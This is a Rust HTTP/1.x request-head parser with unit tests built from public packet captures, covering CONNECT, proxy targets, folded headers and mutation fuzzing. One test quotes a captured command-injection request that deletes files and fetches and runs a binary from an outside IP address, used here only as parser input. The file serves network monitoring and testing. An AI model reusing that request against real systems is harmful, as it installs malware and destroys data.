//! HTTP/1.x request heads (RFC 9112 §3, §5): request line, `Host` and `User-Agent`.
//!
//! [`is_http_request_start`] is a cheap test for the first bytes of a client's TCP payload on
//! any port; [`parse_request_head`] reads the request line and the header lines up to the
//! blank line that ends the head (or up to the end of the buffer: a head cut short by a
//! segment boundary still yields every complete line, flagged [`RequestHead::partial`]).
//!
//! Results borrow from the payload. The one exception is a header value continued over
//! several lines (obsolete line folding, RFC 9112 §5.2), which is unfolded into an owned
//! copy with each fold replaced by one space. Line ends may be CRLF or a bare LF. Nothing
//! here panics on any input.

use std::borrow::Cow;

/// The methods [`is_http_request_start`] recognises: RFC 9110 plus the common WebDAV ones.
pub const METHODS: &[&[u8]] = &[
    b"GET",
    b"POST",
    b"HEAD",
    b"PUT",
    b"DELETE",
    b"OPTIONS",
    b"CONNECT",
    b"PATCH",
    b"TRACE",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"REPORT",
    b"SEARCH",
    // Outlook Anywhere (RPC over HTTP) and Configuration Manager clients.
    b"RPC_IN_DATA",
    b"RPC_OUT_DATA",
    b"CCM_POST",
];

/// Whether `payload` starts like an HTTP request: a method of [`METHODS`], one space and
/// then a request-target character (if that many bytes are present).
pub fn is_http_request_start(payload: &[u8]) -> bool {
    METHODS.iter().any(|m| {
        payload.starts_with(m)
            && payload.get(m.len()) == Some(&b' ')
            && payload
                .get(m.len()..)
                .and_then(|rest| rest.iter().find(|&&c| c != b' '))
                .is_none_or(|c| c.is_ascii_graphic())
    })
}

/// Why a payload could not be read as a request head.
#[derive(Copy, Clone, Debug, PartialEq, Eq, Hash)]
pub enum HttpError {
    /// The request line has not ended yet (no line feed): wait for more bytes.
    Incomplete,
    /// The first line is not `method SP target [SP HTTP/x.y]`.
    NotRequest,
}

impl HttpError {
    pub fn as_str(self) -> &'static str {
        match self {
            HttpError::Incomplete => "http request line incomplete",
            HttpError::NotRequest => "not an http request line",
        }
    }
}

impl std::fmt::Display for HttpError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The shape of the request target (RFC 9112 §3.2).
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub enum TargetForm {
    /// `/path?query`
    Origin,
    /// `http://host[:port]/path` (requests to a proxy).
    Absolute,
    /// `host:port` (CONNECT).
    Authority,
    /// `*` (OPTIONS).
    Asterisk,
}

/// A decoded request head.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RequestHead<'a> {
    pub method: &'a [u8],
    pub target: &'a [u8],
    /// `HTTP/1.1` etc.; `None` for an HTTP/0.9 simple request (`GET /path`), which has no
    /// headers.
    pub version: Option<&'a [u8]>,
    /// The first `Host` header's value, trimmed (may be empty).
    pub host: Option<Cow<'a, [u8]>>,
    /// The first `User-Agent` header's value, trimmed (may be empty).
    pub user_agent: Option<Cow<'a, [u8]>>,
    /// The blank line ending the head was not found: later header lines may be missing,
    /// and the last header read may still continue.
    pub partial: bool,
    /// The length of the head including its blank line (where a pipelined request or the
    /// body starts); `None` when partial.
    pub head_len: Option<usize>,
}

impl<'a> RequestHead<'a> {
    pub fn target_form(&self) -> TargetForm {
        if self.method == b"CONNECT" {
            TargetForm::Authority
        } else if self.target == b"*" {
            TargetForm::Asterisk
        } else if scheme_len(self.target).is_some() {
            TargetForm::Absolute
        } else {
            TargetForm::Origin
        }
    }

    /// The host (and port) named by the target itself: a CONNECT target, or the authority
    /// of an absolute-form URL (without user info). `None` for origin-form targets, where
    /// only `Host` names the server.
    pub fn target_authority(&self) -> Option<&'a [u8]> {
        match self.target_form() {
            // `CONNECT /` and the like name no authority; `Host` may.
            TargetForm::Authority => (!self.target.contains(&b'/')).then_some(self.target),
            TargetForm::Absolute => {
                let rest = self.target.get(scheme_len(self.target)?..)?;
                let end = rest
                    .iter()
                    .position(|&c| matches!(c, b'/' | b'?' | b'#'))
                    .unwrap_or(rest.len());
                let auth = &rest[..end];
                let host = match auth.iter().rposition(|&c| c == b'@') {
                    Some(at) => &auth[at + 1..],
                    None => auth,
                };
                (!host.is_empty()).then_some(host)
            }
            _ => None,
        }
    }

    /// The path and query: the origin-form target, or what follows the authority of an
    /// absolute-form one (`/` if nothing does). `None` for CONNECT and `*`.
    pub fn path(&self) -> Option<&'a [u8]> {
        match self.target_form() {
            TargetForm::Origin => Some(self.target),
            TargetForm::Absolute => {
                let rest = self.target.get(scheme_len(self.target)?..)?;
                match rest.iter().position(|&c| matches!(c, b'/' | b'?')) {
                    Some(i) => rest.get(i..),
                    None => Some(b"/"),
                }
            }
            _ => None,
        }
    }

    /// The server this request is for: the target's authority when it has one, else
    /// `Host`.
    pub fn host_or_authority(&self) -> Option<&[u8]> {
        self.target_authority().or(self.host.as_deref())
    }
}

fn trim_spaces(b: &[u8]) -> &[u8] {
    let start = b.iter().position(|&c| c != b' ').unwrap_or(b.len());
    let end = b.iter().rposition(|&c| c != b' ').map_or(start, |i| i + 1);
    &b[start..end]
}

/// The length of `http://` or `https://` (any case) at the start of `target`.
fn scheme_len(target: &[u8]) -> Option<usize> {
    [&b"http://"[..], b"https://"].iter().find_map(|s| {
        target
            .get(..s.len())
            .filter(|p| p.eq_ignore_ascii_case(s))
            .map(|_| s.len())
    })
}

fn is_ows(c: u8) -> bool {
    c == b' ' || c == b'\t'
}

fn trim_ows(mut s: &[u8]) -> &[u8] {
    while let [first, rest @ ..] = s
        && is_ows(*first)
    {
        s = rest;
    }
    while let [rest @ .., last] = s
        && is_ows(*last)
    {
        s = rest;
    }
    s
}

/// Splits off the next line: `(line without CR LF, rest)`, or `None` if no LF follows.
fn next_line(buf: &[u8]) -> Option<(&[u8], &[u8])> {
    let lf = memchr::memchr(b'\n', buf)?;
    let line = &buf[..lf];
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    Some((line, &buf[lf + 1..]))
}

fn is_token_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&c)
}

/// Which tracked header a line set, so that a continuation line extends it.
#[derive(Copy, Clone, PartialEq, Eq)]
enum Last {
    None,
    Host,
    UserAgent,
    Other,
}

/// Appends a folded continuation to a header value (one space per fold).
fn unfold<'a>(value: &mut Option<Cow<'a, [u8]>>, more: &[u8]) {
    let more = trim_ows(more);
    if more.is_empty() {
        return;
    }
    if let Some(v) = value {
        let v = v.to_mut();
        if !v.is_empty() {
            v.push(b' ');
        }
        v.extend_from_slice(more);
    }
}

/// Parses the request head at the start of `payload` (leading empty lines are skipped, as
/// RFC 9112 §2.2 allows).
pub fn parse_request_head(payload: &[u8]) -> Result<RequestHead<'_>, HttpError> {
    let skipped = payload
        .iter()
        .position(|&c| c != b'\r' && c != b'\n')
        .unwrap_or(payload.len());
    let buf = &payload[skipped..];
    let (line, mut rest) = match next_line(buf) {
        Some(l) => l,
        None => {
            // Refuse early what can never become a request line.
            let upto = buf.iter().position(|&c| c == b' ').unwrap_or(buf.len());
            return Err(if buf[..upto].iter().all(|&c| is_token_char(c)) {
                HttpError::Incomplete
            } else {
                HttpError::NotRequest
            });
        }
    };
    let line = trim_spaces(line);
    let sp = memchr::memchr(b' ', line).ok_or(HttpError::NotRequest)?;
    let method = &line[..sp];
    let after = trim_spaces(&line[sp..]);
    // The version is the last word when it looks like one; spaces left inside the target
    // (attack tools and broken clients send them) stay part of it, as servers read it.
    let (target, version) = match memchr::memrchr(b' ', after) {
        Some(i) if after[i + 1..].starts_with(b"HTTP/") => {
            (trim_spaces(&after[..i]), Some(&after[i + 1..]))
        }
        Some(_) => return Err(HttpError::NotRequest),
        None => (after, None),
    };
    if method.is_empty()
        || target.is_empty()
        || !method.iter().all(|&c| is_token_char(c))
        || !target
            .iter()
            .all(|&c| c.is_ascii_graphic() || c >= 0x80 || c == b' ')
    {
        return Err(HttpError::NotRequest);
    }
    let mut head = RequestHead {
        method,
        target,
        version,
        host: None,
        user_agent: None,
        partial: true,
        head_len: None,
    };
    if version.is_none() && rest.is_empty() {
        // HTTP/0.9: the request is the one line. (A request line missing its version
        // but followed by header lines, as broken clients send, is read on.)
        head.partial = false;
        head.head_len = Some(payload.len() - rest.len());
        return Ok(head);
    }
    let mut last = Last::None;
    while let Some((line, after)) = next_line(rest) {
        rest = after;
        if line.is_empty() {
            head.partial = false;
            head.head_len = Some(payload.len() - rest.len());
            break;
        }
        if line.first().copied().is_some_and(is_ows) {
            match last {
                Last::Host => unfold(&mut head.host, line),
                Last::UserAgent => unfold(&mut head.user_agent, line),
                Last::None | Last::Other => {}
            }
            continue;
        }
        let Some(colon) = memchr::memchr(b':', line) else {
            last = Last::Other;
            continue;
        };
        let name = &line[..colon];
        let value = trim_ows(&line[colon + 1..]);
        last = Last::Other;
        if name.eq_ignore_ascii_case(b"host") && head.host.is_none() {
            head.host = Some(Cow::Borrowed(value));
            last = Last::Host;
        } else if name.eq_ignore_ascii_case(b"user-agent") && head.user_agent.is_none() {
            head.user_agent = Some(Cow::Borrowed(value));
            last = Last::UserAgent;
        }
    }
    Ok(head)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(s: &str) -> Vec<u8> {
        let s: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
        s.chunks(2)
            .map(|p| u8::from_str_radix(std::str::from_utf8(p).unwrap(), 16).unwrap())
            .collect()
    }

    fn head(p: &[u8]) -> RequestHead<'_> {
        parse_request_head(p).unwrap()
    }

    // arkime/arkime tests/pcap/http-wrapped-header.pcap @2d2f3678 (Apache-2.0): the client's
    // tcp.payload of frames 4, 5, 7 and 8 (1170 + 878 + 1170 + 195 bytes), one request head
    // with a very long (anonymised) URL and Cookie spread over four segments.
    // tshark 4.0.17: http.host = xxxxx.xxxxxxxx.xxxxxxxxxx.xxx, http.user_agent = WRAPPED_UA.
    const WRAPPED_FRAMES: [&str; 4] = [WRAPPED_4, WRAPPED_5, WRAPPED_7, WRAPPED_8];
    const WRAPPED_4: &str = "474554202f782f78782f787878787878787878787878787878787878782f782f7878787878782f7878787878\
        787878787878787878783f7878783d31267878783d3126783d78787878787878787878787878787878787878\
        7878787878787878787878787878787878787826766d663d787878787878787878782e7878782e7878782e78\
        78782663653d5554462d38266e733d7878787878787878787826706167654e616d653d787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787826673d78787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878782e6a737026723d78787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        78787878787878787878787878787878787878787878266576656e74733d7878787878787878787878787878\
        787878787878787878787878782670726f64756374733d787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        78787878787878787878787878787878787878787878787878787878782676313d7878787878787878787878\
        787878782676323d787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878267631\
        373d787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878785f63";
    const WRAPPED_5: &str = "7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        78266334393d7878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878264151453d3120485454502f312e310d0a486f";
    const WRAPPED_7: &str = "73743a2078787878782e78787878787878782e787878787878787878782e7878780d0a436f6e6e656374696f\
        6e3a206b6565702d616c6976650d0a4163636570743a20696d6167652f776562702c2a2f2a3b713d302e380d\
        0a557365722d4167656e743a204d6f7a696c6c612f352e30202857696e646f7773204e5420362e313b20574f\
        57363429204170706c655765624b69742f3533372e333620284b48544d4c2c206c696b65204765636b6f2920\
        4368726f6d652f33352e302e313931362e313533205361666172692f3533372e33360d0a526566657265723a\
        20687474703a2f2f7777772e787878787878787878782e7878782f78782f7878787878787878787878787878\
        7878782f787878787878787878787878787878787878787878782f7878787878787878787878782e6a73700d\
        0a4163636570742d456e636f64696e673a20677a69702c6465666c6174652c736463680d0a4163636570742d\
        4c616e67756167653a20656e2d55532c656e3b713d302e382c656e2d47423b713d302e360d0a436f6f6b6965\
        3a20787878787878787878787878787878787878783d69653b20787878787878787878787878787878787878\
        787878783d747275653b206c703d7878787878783b2072656d656d626572556e3d66616c73653b207878782e\
        787878787878787878782e787878787878787878783d78783b2078787878783d787878787878787878787878\
        787878787878787878787878787878787878787878787878787878787878787878787878787878783b206175\
        746f636f6d706c6574653d313b20787878783d787878783b20787878783d7878787876317c78787878787878\
        7878787878787878787878787878787878787878787878787878787878783b207878787878783d7878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878";
    const WRAPPED_8: &str = "3278787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878787878787878787878787878787878787878787878787878787878787878\
        7878787878787878787878787878780d0a0d0a";
    const WRAPPED_HOST: &str = "xxxxx.xxxxxxxx.xxxxxxxxxx.xxx";
    const WRAPPED_UA: &str = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 \
        (KHTML, like Gecko) Chrome/35.0.1916.153 Safari/537.36";

    // zeek/zeek testing/btest/Traces/http/connect-with-header.pcap @a13de64f (BSD-3-Clause),
    // tcp.payload of frame 5. tshark: http.request.method = CONNECT, http.host =
    // secure.newegg.com:443, http.user_agent = Mozilla/5.0 (Macintosh; Intel Mac OS X
    // 10.10; rv:41.0) Gecko/20100101 Firefox/41.0.
    const CONNECT_NEWEGG: &str = "434f4e4e454354207365637572652e6e65776567672e636f6d3a343433\
        20485454502f312e310d0a557365722d4167656e743a204d6f7a696c6c612f352e3020284d6163696e746f\
        73683b20496e74656c204d6163204f5320582031302e31303b2072763a34312e3029204765636b6f2f3230\
        3130303130312046697265666f782f34312e300d0a50726f78792d436f6e6e656374696f6e3a206b656570\
        2d616c6976650d0a436f6e6e656374696f6e3a206b6565702d616c6976650d0a486f73743a207365637572\
        652e6e65776567672e636f6d3a3434330d0a0d0a";
    // arkime/arkime tests/pcap/https-connect.pcap @2d2f3678 (Apache-2.0), frame 4: an
    // HTTP/1.0 CONNECT with no Host header. tshark: http.user_agent = CrowdStrike Falcon
    // Sensor, no http.host.
    const CONNECT_NO_HOST: &str = "434f4e4e45435420747330312d622e636c6f756473696e6b2e6e6574\
        3a34343320485454502f312e300d0a557365722d4167656e743a2043726f7764537472696b652046616c63\
        6f6e2053656e736f720d0a0d0a";
    // arkime/arkime tests/pcap/http-empty-useragent.pcap @2d2f3678 (Apache-2.0), frames 5, 7
    // and 9: "GET / HTTP/1.0\n", "User-Agent:\n", "\n" (bare LF line ends, no Host).
    // tshark: no http.host, http.user_agent = "" (empty).
    const NO_HOST_FRAMES: [&str; 3] = [
        "474554202f20485454502f312e300a",
        "557365722d4167656e743a0a",
        "0a",
    ];
    // zeek/zeek testing/btest/Traces/http/proxy.pcap @a13de64f (BSD-3-Clause), frame 4: a
    // request to a proxy with an absolute-form target in upper-case scheme
    // (`GET HTTP://bro.org/ HTTP/1.1`). tshark: http.host = bro.org, http.user_agent =
    // curl/7.33.0.
    const PROXY_ABSOLUTE: &str = "47455420485454503a2f2f62726f2e6f72672f20485454502f312e310d0a\
        557365722d4167656e743a206375726c2f372e33332e300d0a486f73743a2062726f2e6f72670d0a41636365\
        70743a202a2f2a0d0a50726f78792d436f6e6e656374696f6e3a204b6565702d416c6976650d0a0d0a";

    fn wrapped() -> Vec<u8> {
        WRAPPED_FRAMES.iter().flat_map(|f| hex(f)).collect()
    }

    #[test]
    fn head_over_four_segments() {
        let full = wrapped();
        assert_eq!(full.len(), 1170 + 878 + 1170 + 195);
        assert!(is_http_request_start(&full));
        let h = head(&full);
        assert_eq!(h.method, b"GET");
        assert!(h.target.starts_with(b"/x/xx/"));
        assert_eq!(h.version, Some(&b"HTTP/1.1"[..]));
        assert_eq!(h.host.as_deref(), Some(WRAPPED_HOST.as_bytes()));
        assert_eq!(h.user_agent.as_deref(), Some(WRAPPED_UA.as_bytes()));
        assert!(!h.partial);
        assert_eq!(h.head_len, Some(full.len()));
        assert_eq!(h.target_form(), TargetForm::Origin);
        assert_eq!(h.path(), Some(h.target));
        assert_eq!(h.host_or_authority(), Some(WRAPPED_HOST.as_bytes()));
        assert!(matches!(h.host, Some(Cow::Borrowed(_))));

        // Segment by segment: the request line is not complete in the first one; the second
        // ends inside the Host line; the third has Host and User-Agent but not the end.
        let seg: Vec<Vec<u8>> = WRAPPED_FRAMES.iter().map(|f| hex(f)).collect();
        assert_eq!(parse_request_head(&seg[0]), Err(HttpError::Incomplete));
        let two = [&seg[0][..], &seg[1]].concat();
        let h = head(&two);
        assert!(h.partial && h.host.is_none() && h.user_agent.is_none());
        let three = [&seg[0][..], &seg[1], &seg[2]].concat();
        let h = head(&three);
        assert!(h.partial);
        assert_eq!(h.head_len, None);
        assert_eq!(h.host.as_deref(), Some(WRAPPED_HOST.as_bytes()));
        assert_eq!(h.user_agent.as_deref(), Some(WRAPPED_UA.as_bytes()));
    }

    #[test]
    fn obs_fold_headers() {
        // The capture above has no folded line (its "wrapping" is over TCP segments), and no
        // permissively licensed capture in the corpus has a folded request header. So: the
        // same real head, with its User-Agent folded over three lines and its Host moved to
        // a continuation line. Unfolding gives back the values tshark shows.
        let full = wrapped();
        let text = String::from_utf8(full).unwrap();
        let folded = text
            .replace(
                "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit",
                "User-Agent: Mozilla/5.0\r\n (Windows NT 6.1; WOW64) \r\n\t  AppleWebKit",
            )
            .replace("Host: xxxxx", "hOsT:\r\n   xxxxx");
        assert_ne!(folded, text);
        let h = head(folded.as_bytes());
        assert_eq!(h.host.as_deref(), Some(WRAPPED_HOST.as_bytes()));
        assert_eq!(h.user_agent.as_deref(), Some(WRAPPED_UA.as_bytes()));
        assert!(matches!(h.user_agent, Some(Cow::Owned(_))));
        assert!(!h.partial);
        // A continuation of an untracked header does not leak into the next one.
        let h = head(b"GET / HTTP/1.1\r\nX-A: 1\r\n 2\r\nHost: a.example\r\n\r\n");
        assert_eq!(h.host.as_deref(), Some(&b"a.example"[..]));
    }

    #[test]
    fn connect_requests() {
        let p = hex(CONNECT_NEWEGG);
        assert!(is_http_request_start(&p));
        let h = head(&p);
        assert_eq!(h.method, b"CONNECT");
        assert_eq!(h.target_form(), TargetForm::Authority);
        assert_eq!(h.target_authority(), Some(&b"secure.newegg.com:443"[..]));
        assert_eq!(h.host.as_deref(), Some(&b"secure.newegg.com:443"[..]));
        assert_eq!(
            h.user_agent.as_deref(),
            Some(&b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:41.0) Gecko/20100101 Firefox/41.0"[..])
        );
        assert_eq!(h.path(), None);

        let p = hex(CONNECT_NO_HOST);
        let h = head(&p);
        assert_eq!(h.version, Some(&b"HTTP/1.0"[..]));
        assert_eq!(h.host, None);
        assert_eq!(
            h.host_or_authority(),
            Some(&b"ts01-b.cloudsink.net:443"[..])
        );
        assert_eq!(
            h.user_agent.as_deref(),
            Some(&b"CrowdStrike Falcon Sensor"[..])
        );
        assert_eq!(h.head_len, Some(p.len()));
    }

    #[test]
    fn http10_without_host_and_bare_lf() {
        let seg: Vec<Vec<u8>> = NO_HOST_FRAMES.iter().map(|f| hex(f)).collect();
        let h = head(&seg[0]);
        assert_eq!(
            (h.method, h.target, h.version),
            (&b"GET"[..], &b"/"[..], Some(&b"HTTP/1.0"[..]))
        );
        assert!(h.partial);
        let two = [&seg[0][..], &seg[1]].concat();
        let h = head(&two);
        assert!(h.partial);
        assert_eq!(h.user_agent.as_deref(), Some(&b""[..]));
        let all = seg.concat();
        let h = head(&all);
        assert!(!h.partial);
        assert_eq!(h.host, None);
        assert_eq!(h.host_or_authority(), None);
        assert_eq!(h.user_agent.as_deref(), Some(&b""[..]));
        assert_eq!(h.head_len, Some(all.len()));
    }

    #[test]
    fn absolute_form_target() {
        let p = hex(PROXY_ABSOLUTE);
        let h = head(&p);
        assert_eq!(h.target, b"HTTP://bro.org/");
        assert_eq!(h.target_form(), TargetForm::Absolute);
        assert_eq!(h.target_authority(), Some(&b"bro.org"[..]));
        assert_eq!(h.path(), Some(&b"/"[..]));
        assert_eq!(h.host.as_deref(), Some(&b"bro.org"[..]));
        assert_eq!(h.user_agent.as_deref(), Some(&b"curl/7.33.0"[..]));
        let h = head(b"GET https://user:pw@api.example:8443?q=1 HTTP/1.1\r\n\r\n");
        assert_eq!(h.target_authority(), Some(&b"api.example:8443"[..]));
        assert_eq!(h.path(), Some(&b"?q=1"[..]));
        let h = head(b"GET http://a.example HTTP/1.1\r\n\r\n");
        assert_eq!(h.path(), Some(&b"/"[..]));
        let h = head(b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n");
        assert_eq!(h.target_form(), TargetForm::Asterisk);
        assert_eq!(h.host_or_authority(), Some(&b"a"[..]));
    }

    #[test]
    fn spaces_inside_the_target_stay_in_it() {
        // suricata-verify bug-5437-01.pcap (MIT), frame 1 (ERSPAN): tshark 4.0.17 reads
        // http.host 127.0.0.1:80 and the whole target up to " HTTP/1.1".
        let h = head(b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n");
        assert_eq!(h.method, b"GET");
        assert_eq!(
            h.target,
            &b"/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm"[..]
        );
        assert_eq!(h.version, Some(&b"HTTP/1.1"[..]));
        assert_eq!(h.host_or_authority(), Some(&b"127.0.0.1:80"[..]));
        let h = head(b"GET        /a HTTP/1.1\r\nHost: www.lan:8080\r\n\r\n");
        assert_eq!(
            (h.target, h.host_or_authority()),
            (&b"/a"[..], Some(&b"www.lan:8080"[..]))
        );
        assert_eq!(
            parse_request_head(b"GET /a b c\r\n\r\n"),
            Err(HttpError::NotRequest)
        );
    }

    #[test]
    fn request_start_and_rejects() {
        // Extra spaces before the target are read as servers read them.
        for ok in [
            &b"GET /"[..],
            b"POST ",
            b"PROPFIND /x",
            b"CONNECT a:443",
            b"GET  /",
        ] {
            assert!(is_http_request_start(ok), "{ok:?}");
        }
        for no in [
            &b"GET"[..],
            b"GETX /",
            b"get /",
            b"HTTP/1.1 200 OK",
            b"\x16\x03\x01",
            b"",
        ] {
            assert!(!is_http_request_start(no), "{no:?}");
        }
        assert_eq!(parse_request_head(b"GET / HTT"), Err(HttpError::Incomplete));
        assert_eq!(parse_request_head(b""), Err(HttpError::Incomplete));
        assert_eq!(
            parse_request_head(b"\x16\x03\x01\x02\x00\x01"),
            Err(HttpError::NotRequest)
        );
        assert_eq!(
            parse_request_head(b"HTTP/1.1 200 OK\r\n"),
            Err(HttpError::NotRequest)
        );
        assert_eq!(
            parse_request_head(b"GET / FTP/1.0\r\n"),
            Err(HttpError::NotRequest)
        );
        // HTTP/0.9 simple request, and leading blank lines.
        let h = head(b"\r\nGET /zeek.html\r\n");
        assert_eq!((h.version, h.partial, h.head_len), (None, false, Some(18)));
        // Only the first Host counts; names are case-insensitive; values are trimmed.
        let h = head(b"GET / HTTP/1.1\r\nhost:\t a \r\nHOST: b\r\nuser-AGENT:  ua/1 \r\n\r\nbody");
        assert_eq!(h.host.as_deref(), Some(&b"a"[..]));
        assert_eq!(h.user_agent.as_deref(), Some(&b"ua/1"[..]));
        assert_eq!(h.head_len, Some(58));
    }

    /// Deterministic xorshift, so the mutations are the same on every run.
    fn rng(seed: &mut u64) -> u64 {
        *seed ^= *seed << 13;
        *seed ^= *seed >> 7;
        *seed ^= *seed << 17;
        *seed
    }

    #[test]
    fn mutations_never_panic() {
        let bases = [hex(CONNECT_NEWEGG), hex(PROXY_ABSOLUTE)];
        let mut seed = 0xdead_beef_cafe_f00du64;
        for i in 0..2000 {
            let mut m = bases[i % 2].clone();
            for _ in 0..1 + rng(&mut seed) % 8 {
                let r = rng(&mut seed);
                let at = (r >> 8) as usize % m.len().max(1);
                let byte = [b'\r', b'\n', b' ', b'\t', b':', 0, 0xff, (r >> 32) as u8]
                    [(r >> 24) as usize % 8];
                match r % 3 {
                    0 => m[at] = byte,
                    1 => m.truncate(at),
                    _ => m.insert(at, byte),
                }
                if m.is_empty() {
                    m.push(b'G');
                }
            }
            let _ = is_http_request_start(&m);
            if let Ok(h) = parse_request_head(&m) {
                let _ = (
                    h.target_form(),
                    h.target_authority(),
                    h.path(),
                    h.host_or_authority(),
                );
                if let Some(n) = h.head_len {
                    assert!(n <= m.len());
                }
            }
        }
    }
}
